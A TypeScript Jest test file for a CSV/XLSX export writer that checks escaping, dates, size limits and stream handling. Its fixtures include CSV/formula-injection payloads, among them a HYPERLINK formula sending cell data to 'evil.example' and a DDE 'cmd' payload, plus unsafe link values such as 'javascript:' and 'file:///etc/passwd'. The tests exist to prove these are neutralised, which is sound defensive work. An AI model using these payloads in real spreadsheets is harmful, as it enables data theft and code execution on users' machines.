import { PassThrough, Writable } from 'node:stream';
import { describe, expect, it } from '@jest/globals';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { OutputClosed } from './sheet-output.js';
import { excelLimits } from './sheet.js';
import type { Sheet, SheetColumn, SheetManner } from './sheet.js';
import { writeSheet } from './write-sheet.js';

interface Row {
  text: string;
  number?: number | null;
  at?: Date | null;
  day?: string | null;
  url?: string | null;
}

const columns: SheetColumn<Row>[] = [
  { header: 'Text', kind: 'text', of: ({ text }) => text },
  { header: 'Zahl', kind: 'number', of: ({ number }) => number ?? null },
  { header: 'Tag', kind: 'day', of: ({ day }) => day ?? null },
  { header: 'Zeit', kind: 'instant', of: ({ at }) => at ?? null },
  { header: 'Adresse', kind: 'url', of: ({ url }) => url ?? null },
];
const manner: SheetManner = {
  locale: 'de',
  timeZone: 'Europe/Berlin',
  notices: {
    rowsLeftOut: (count) => `${count} Zeilen fehlen`,
    cellsCut: (count) => `${count} Zellen gekürzt`,
    linksAsText: (count) => `${count} Links als Text`,
  },
};
const sheetOf = (rows: Sheet<Row>['rows']): Sheet<Row> => ({
  name: 'Erwähnungen: alle',
  columns,
  rows,
  about: { name: 'Über diese Datei', lines: (count) => [['Zeilen', String(count)]] },
});

async function written(
  format: 'csv' | 'xlsx',
  rows: Sheet<Row>['rows'],
  limits = excelLimits,
): Promise<Buffer> {
  const stream = new PassThrough();
  const chunks: Buffer[] = [];
  stream.on('data', (chunk: Buffer) => chunks.push(chunk));
  await writeSheet(format, sheetOf(rows), stream, manner, limits);
  return Buffer.concat(chunks);
}

async function workbookOf(rows: Sheet<Row>['rows'], limits = excelLimits): Promise<ExcelJS.Workbook> {
  const workbook = new ExcelJS.Workbook();
  const bytes = await written('xlsx', rows, limits);
  await workbook.xlsx.load(bytes as unknown as ExcelJS.Buffer);
  return workbook;
}

const parsed = async (rows: Row[]): Promise<string[][]> =>
  parse(await written('csv', rows), { delimiter: ';', bom: true, record_delimiter: '\r\n' });

const formulas = [
  '=1+1',
  '=HYPERLINK("https://evil.example?x="&A1;"klick")',
  '+49 821 1234',
  '-5 Grad',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '  =1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠x',
  `=cmd|' /C calc'!A0`,
];

describe('writing a table', () => {
  it('writes CSV as Excel opens it: BOM, semicolons, CRLF, decimal comma, days and moments of the reporting zone', async () => {
    const bytes = await written('csv', [
      {
        text: 'Grüße; "Köln"\nzweite Zeile',
        number: 1234.5,
        day: '2026-03-05',
        at: new Date('2026-07-05T22:30:00Z'),
        url: 'https://bote.example/ä?a=1;2',
      },
      { text: '' },
    ]);
    expect(bytes.toString()).toBe(
      '\uFEFFText;Zahl;Tag;Zeit;Adresse\r\n' +
        '"Grüße; ""Köln""\nzweite Zeile";1234,5;2026-03-05;2026-07-06 00:30;"https://bote.example/ä?a=1;2"\r\n' +
        ';;;;\r\n',
    );
  });

  it('writes the header alone when there are no rows', async () => {
    expect(await parsed([])).toEqual([['Text', 'Zahl', 'Tag', 'Zeit', 'Adresse']]);
    const workbook = await workbookOf([]);
    expect(workbook.worksheets[0]!.rowCount).toBe(1);
    expect(workbook.worksheets[1]!.getRow(1).values).toEqual([undefined, 'Zeilen', '0']);
  });

  it('lets no text become a formula in CSV, and keeps it readable', async () => {
    const rows = await parsed(formulas.map((text) => ({ text, url: text })));
    for (const [index, text] of formulas.entries()) {
      expect(rows[index + 1]![0]).toBe(`'${text}`);
      expect(rows[index + 1]![4]).toBe(`'${text}`);
    }
    const own = await parsed([{ text: 'a=b', number: -5 }]);
    expect(own[1]).toEqual(['a=b', '-5', '', '', '']);
  });

  it('stores the same texts in XLSX as texts, as they are', async () => {
    const [page] = (await workbookOf(formulas.map((text) => ({ text, url: text })))).worksheets;
    for (const [index, text] of formulas.entries()) {
      for (const cell of [page!.getRow(index + 2).getCell(1), page!.getRow(index + 2).getCell(5)]) {
        expect(cell.type).toBe(ExcelJS.ValueType.String);
        expect(cell.formula).toBeUndefined();
        // XML has one kind of line break
        expect(cell.value).toBe(text.replace('\r', '\n'));
      }
    }
  });

  it('stores days and moments in XLSX as dates, numbers as numbers, addresses of the web as links', async () => {
    const workbook = await workbookOf([
      {
        text: 'Käse 🧀',
        number: -0.1,
        day: '2026-03-29',
        at: new Date('2026-03-29T01:30:00Z'),
        url: 'https://bote.example/a?b=1&c=2',
      },
    ]);
    expect(workbook.worksheets.map(({ name }) => name)).toEqual(['Erwähnungen  alle', 'Über diese Datei']);
    const row = workbook.worksheets[0]!.getRow(2);
    expect(row.getCell(1).value).toBe('Käse 🧀');
    expect(row.getCell(2).value).toBe(-0.1);
    expect(row.getCell(3).value).toEqual(new Date('2026-03-29T00:00:00Z'));
    expect(row.getCell(3).numFmt).toBe('dd.mm.yyyy');
    // 03:30 on Berlin's clocks
    expect(row.getCell(4).value).toEqual(new Date('2026-03-29T03:30:00Z'));
    expect(row.getCell(5).hyperlink).toBe('https://bote.example/a?b=1&c=2');
  });

  it.each([
    'javascript:alert(1)',
    'data:text/html,x',
    'file:///etc/passwd',
    'https://x" onclick',
    '\\\\server\\share',
    'mailto:a@b.de',
  ])('makes no link of %s', async (url) => {
    const cell = (await workbookOf([{ text: 'a', url }])).worksheets[0]!.getRow(2).getCell(5);
    expect(cell.hyperlink).toBeUndefined();
    expect(cell.value).toBe(url);
  });

  it('drops control characters and broken halves of characters, which would make the file unreadable', async () => {
    const text = 'a\0b\x07c\x1Fd\uD800e\uDC00f\uFFFEg\x85h';
    expect((await workbookOf([{ text }])).worksheets[0]!.getRow(2).getCell(1).value).toBe('abcdefgh');
    expect((await parsed([{ text }]))[1]![0]).toBe('abcdefgh');
  });

  it('tells at the end of an XLSX file what it could not hold', async () => {
    const rows = Array.from({ length: 10 }, (_, index) => ({
      text: index ? 'kurz' : `${'x'.repeat(28)}🧀🧀`,
      url: `https://bote.example/${index}`,
    }));
    const workbook = await workbookOf(rows, { rows: 10, cellLength: 30, links: 2, linkLength: 2000 });
    const [page, about] = workbook.worksheets;
    expect(page!.getRow(2).getCell(1).value).toBe(`${'x'.repeat(28)}…`);
    expect([8, 9, 10].map((line) => page!.getRow(line).getCell(1).value)).toEqual([
      '4 Zeilen fehlen',
      '1 Zellen gekürzt',
      '4 Links als Text',
    ]);
    expect(page!.rowCount).toBeLessThanOrEqual(10);
    expect(about!.getRow(1).getCell(2).value).toBe('6');
    expect(about!.getRow(2).getCell(2).value).toBe('4 Zeilen fehlen');
    // CSV knows no such limits
    expect((await parsed(rows))[1]![0]).toBe(rows[0]!.text);
  });

  it.each(['csv', 'xlsx'] as const)(
    '%s: stops reading rows when nobody reads the file any more',
    async (format) => {
      let read = 0;
      let closed = false;
      function* endless() {
        try {
          for (;;) {
            read += 1;
            yield { text: `Zeile ${read}` };
          }
        } finally {
          closed = true;
        }
      }
      let seen = 0;
      const stream = new Writable({
        write(chunk: Buffer, _, done) {
          seen += chunk.length;
          if (seen > 50_000) this.destroy();
          else done();
        },
      });
      await expect(writeSheet(format, sheetOf(endless()), stream, manner)).rejects.toBeInstanceOf(
        OutputClosed,
      );
      expect(closed).toBe(true);
    },
  );

  it.each(['csv', 'xlsx'] as const)(
    '%s: waits for a slow reader instead of filling the memory',
    async (format) => {
      let read = 0;
      function* endless() {
        for (;;) {
          read += 1;
          yield { text: `Zeile ${read} ${Math.random()}` };
        }
      }
      const stuck = new Writable({ highWaterMark: 1000, write: () => undefined });
      const writing = writeSheet(format, sheetOf(endless()), stuck, manner);
      let before = -1;
      while (before !== read || read === 0) {
        before = read;
        await new Promise((resolve) => setTimeout(resolve, 200));
      }
      expect(read).toBeLessThan(50_000);
      stuck.destroy();
      await expect(writing).rejects.toBeInstanceOf(OutputClosed);
    },
  );

  it.each(['csv', 'xlsx'] as const)(
    '%s: a failure in the middle leaves the stream unended',
    async (format) => {
      function* failing() {
        for (let index = 0; index < 250; index += 1) yield { text: 'a' };
        throw new Error('database gone');
      }
      const stream = new PassThrough().resume();
      await expect(writeSheet(format, sheetOf(failing()), stream, manner)).rejects.toThrow('database gone');
      expect(stream.writableEnded).toBe(false);
      stream.destroy();
    },
  );
});
